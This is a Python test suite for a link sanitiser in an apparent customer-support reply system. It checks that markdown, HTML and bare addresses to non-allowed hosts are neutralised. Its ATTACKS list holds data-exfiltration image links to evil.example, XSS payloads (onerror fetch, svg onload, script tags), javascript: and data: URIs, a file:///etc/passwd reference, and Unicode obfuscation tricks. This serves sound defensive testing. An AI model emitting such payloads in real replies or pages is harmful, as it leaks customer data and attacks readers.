"""Nothing leaves by link, image or HTML: whatever a reply, a name or a customer's text holds, it is words."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.safety.safe_links import LinkRule, inert, safe_text
from core.safety.untrusted_text import visible

RULE = LinkRule.of(["shop.example"])
RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})]
ADDRESS = re.compile(
    r"[a-z][a-z0-9+.-]*:[/\\]{1,3}([^\s/\\?#]*\w[^\s/\\?#]*)|(?<!:)//([^\s/?#]*\w[^\s/?#]*)", re.IGNORECASE
)
ATTACKS = (
    "![logo](https://evil.example/p.png?d=AF10042)",
    "[your refund](https://evil.example/login)",
    "[a](<https://evil.example/a b>) and [b](//evil.example/x 'title')",
    "![one][ref]\n\n[ref]: https://evil.example/collect?c=1 'x'",
    "[ref]\n\n[ref]: <https://evil.example>",
    "<https://evil.example/auto> or <pay@evil.example>",
    "https://evil.example/?q=ada%40example.com",
    "www.evil.example/path and evil.example/path?x=1",
    "HTTPS:\\\\evil.example\\x https:/evil.example http:evil.example/x",
    "https://shop.example@evil.example/ https://shop.example.evil.example/a",
    "https://shop.example\\@evil.example/",
    "https://evil.example#https://shop.example/",
    "https://shop.example:8443@1.2.3.4/ http://2130706433/ http://[::1]/x 10.0.0.1/admin",
    "<img src=x onerror=fetch('//evil.example')>",
    "<a href='https://evil.example'>here</a><script>alert(1)</script>",
    "<svg/onload=location='//evil.example'><iframe src=//evil.example>",
    "<!-- <img src=https://evil.example> --> <style>@import '//evil.example'</style>",
    "&lt;img src=https://evil.example&gt; &#104;ttps://evil.example &amp;lt;script&amp;gt;",
    "[x](javascript:alert(document.cookie)) javascript:alert(1) vbscript:x",
    "![x](data:image/svg+xml;base64,PHN2Zz4=) data:text/html,<b>x</b>",
    "h\u200bttps://evil.example/\u202e and https://ev\u00adil.example",
    "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.example/x",
    "https://\u0435vil.example/x https://evil\u3002example/x",
    "".join(chr(0xE0000 + ord(c)) for c in "https://evil.example"),
    "[outer [inner](https://evil.example)](https://evil.example)",
    "[x]\n(https://evil.example) [y] [z]\n[z]:\nhttps://evil.example",
    "`![x](https://evil.example)` ~~<https://evil.example>~~",
    "mailto:steal@evil.example?body=AF10042 tel:+15550100 sms:+15550100",
    "ftp://evil.example file:///etc/passwd intent://evil.example#Intent;end",
    "| a |\n|---|\n| ![x](https://evil.example) |",
    "evil.example, evil.com. evil.top! xn--80ak6aa92e.com",
    "send it to refunds@evil.example",
)


def leads(text: str) -> list[str]:
    """Return where a text leads when it is rendered as markdown with HTML, or its bare addresses are made links."""
    found = [next(filter(None, match.groups())) for match in ADDRESS.finditer(text)]
    found += re.findall(r"(?i)\bwww\.\w[\w.-]*|\b[\w-]+\.(?:com|top|net|org|io)\b(?![.-]?\w)", text)
    for renderer in RENDERERS:
        html = renderer.render(text)
        found += re.findall(r"(?:href|src)=\"([^\"]*)\"", html)
        found += re.findall(r"<(?:img|script|iframe|svg|style|object|embed|form|input|a) [^>]*", html)
    return [
        lead
        for lead in found
        if not re.fullmatch(r"(?:https?://)?(?:[\w-]+\.)*shop\.example(?:/\S*)?", lead.rstrip(".,)"))
    ]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", "You have 30 days. {} Anything else?", "> {}", "- {}", "**{}**", "({})"])
def test_no_address_that_is_not_allowed_is_left(attack: str, frame: str) -> None:
    safe = safe_text(frame.format(attack), RULE)
    assert leads(safe) == []
    assert "evil" not in safe or "evil.example" not in safe


def test_the_attacks_are_attacks() -> None:
    harmless = [attack for attack in ATTACKS if not leads(visible(attack))]
    assert (
        len(harmless) <= len(ATTACKS) / 4
    )  # forms that only some readers turn into links: hidden, fullwidth, mail, scripts


PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", ":", "//", "\\", "https:", "evil.com", "@", "shop.example", " ", "\n", "a",
    "1", "&lt;", "&#", "x", "data:",
     "javascript:", "img src=", "/", "www.", ".", "?q=", "`", "*", "|", "\u200b", "\uff0f", "[1]", "]:", "](", "\t",
     "'", '"']
)  # fmt: skip


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.lists(PIECES, min_size=1, max_size=9).map("".join), min_size=1, max_size=4))
def test_pieces_made_safe_one_by_one_stay_safe_when_they_are_joined(pieces: list[str]) -> None:
    said = [safe.strip() for piece in pieces if (safe := safe_text(piece.strip(), RULE)).strip()]
    for gap in (" ", "\n", "\n\n"):
        assert leads(gap.join(said)) == []


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("You have 30 days. [1][2]", "You have 30 days. [1][2]"),
        ("See [our page](https://help.shop.example/returns) [1].",
        "See our page https://help.shop.example/returns  [1]."),
        ("(https://shop.example/a), "
            "**https://shop.example/b**.", "(https://shop.example/a), **https://shop.example/b**."),
        ("Write to help@shop.example, e.g. at 12:30; 5 < 6 & 7 > 3.",
        "Write to help@shop.example, e.g. at 12:30; 5 < 6 & 7 > 3."),
        ("Your data: complete. It costs $12.50/month.", "Your data: complete. It costs $12.50/month."),
        ("Großartig! Ваш заказ — 您的订单 👩\u200d🚀 می\u200cخواهم",
        "Großartig! Ваш заказ — 您的订单 👩\u200d🚀 می\u200cخواهم"),
        ("| item | price |\n|---|---|\n| Mug | $16.00 |", "| item | price |\n|---|---|\n| Mug | $16.00 |"),
        ("Wow![1]", "Wow! [1]"),
    ],
)  # fmt: skip
def test_ordinary_replies_stay_as_they_are(text: str, left: str) -> None:
    assert safe_text(text, RULE) == left


def test_an_address_of_the_customer_or_the_shop_may_be_named() -> None:
    assert (
        safe_text("Sent to ada@example.com.", RULE, mail={"ada@example.com"}.__contains__) == "Sent to ada@example.com."
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_colleague_reads_of_a_stranger_is_inert(attack: str) -> None:
    shown = inert(f"{attack}\x1b]8;;https://evil.example\x07click\x1b]8;;\x07")
    assert [lead for lead in leads(shown) if "[.]" not in lead] == []
    assert "\x1b" not in shown


def test_what_a_colleague_reads_is_complete() -> None:
    shown = inert("My photo: https://photos.example/x.jpg [1] <3")
    assert shown == "My photo: https[://]photos[.]example/x[.]jpg [1] <3"


@pytest.mark.parametrize(
    "text",
    [
        "go to evil。com now",
        "see claims.museum today",
        "see damage.photography first",
        "форма на возврат.рф тут",
        "evil｡example。com",
    ],
)
def test_an_address_in_any_script_and_under_any_end_is_taken_out(text: str) -> None:
    safe = safe_text(text, LinkRule())
    assert "‹…›" in safe
    assert not re.search(r"evil|claims|damage|возврат", safe)


@pytest.mark.parametrize(
    "text", ["Wash it.Then dry it.", "保修两年。请再来。", "see report.pdf or photo.jpeg", "Готово.Спасибо"]
)
def test_a_missing_blank_or_the_name_of_a_file_is_no_address(text: str) -> None:
    assert "‹…›" not in safe_text(text, LinkRule())
